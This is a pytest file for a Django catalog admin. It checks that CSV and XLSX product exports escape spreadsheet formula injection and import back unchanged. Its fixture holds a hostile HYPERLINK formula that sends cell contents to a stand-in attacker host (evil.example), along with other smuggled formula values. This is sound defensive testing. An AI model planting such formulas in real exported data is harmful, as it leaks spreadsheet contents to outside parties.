"""Issue 29, item 7: the admin's catalog export is formula-safe like every other export. A
catalog text written as `=HYPERLINK(...)` (a product name, a source) is text in the CSV (behind
a single quote) and in the XLSX (a string cell), and a CSV export imports back unchanged."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from catalog.models import Product
from catalog.resources import FormulaSafeCSV, ProductResource, formula_safe, formula_unescaped

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
CSV_INDEX, XLSX_INDEX = "0", "1"  # CatalogImportExportAdmin.export_formats


@pytest.fixture
def hostile(seeded):
    product = Product.objects.get(sku="NETI710-4CP")
    product.name_en = FORMULA
    product.description_en = "@SUM(1+1)"
    product.source = "-2+3"
    product.save()
    return product


def _export(client, file_format: str) -> bytes:
    url = reverse("admin:catalog_product_export")
    form = client.get(url).context["form"]
    # Every column the form offers, ticked, as the catalog manager would.
    data = {
        name: "on" for name, field in form.fields.items() if field.widget.input_type == "checkbox"
    }
    data.update({"format": file_format, "resource": "0"})
    response = client.post(url, data)
    assert response.status_code == 200, response.content[:500]
    return b"".join(response.streaming_content) if response.streaming else response.content


def _row(rows: list[dict[str, str]], sku: str) -> dict[str, str]:
    return next(row for row in rows if row["sku"] == sku)


def test_the_admin_csv_export_writes_formulas_as_text(hostile, client, staff_catalog_manager):
    client.force_login(staff_catalog_manager)
    content = _export(client, CSV_INDEX).decode("utf-8-sig")
    row = _row(list(csv.DictReader(io.StringIO(content))), hostile.sku)
    assert row["name_en"] == "'" + FORMULA
    assert row["description_en"] == "'@SUM(1+1)"
    assert row["source"] == "'-2+3"
    assert "\n=HYPERLINK" not in content
    assert ",=HYPERLINK" not in content


def test_the_admin_xlsx_export_writes_formulas_as_strings(hostile, client, staff_catalog_manager):
    client.force_login(staff_catalog_manager)
    sheet = load_workbook(io.BytesIO(_export(client, XLSX_INDEX))).active
    rows = list(sheet.iter_rows())
    headers = [cell.value for cell in rows[0]]
    row = next(r for r in rows[1:] if r[headers.index("sku")].value == hostile.sku)
    name = row[headers.index("name_en")]
    assert name.value == FORMULA
    assert name.data_type == "s"


def test_numbers_stay_numbers_and_a_csv_export_imports_back_unchanged(hostile):
    assert formula_safe("-40") == "-40"
    assert formula_safe("+1.5e3") == "+1.5e3"
    assert formula_safe("-40C") == "'-40C"
    assert formula_safe(3) == 3
    for text in (FORMULA, "@x", "-2+3", "\tx", "plain", "'quoted already"):
        assert formula_unescaped(formula_safe(text)) == text
    exported = FormulaSafeCSV().export_data(ProductResource().export())
    imported = FormulaSafeCSV().create_dataset(exported)
    row = next(r for r in imported.dict if r["sku"] == hostile.sku)
    assert row["name_en"] == FORMULA
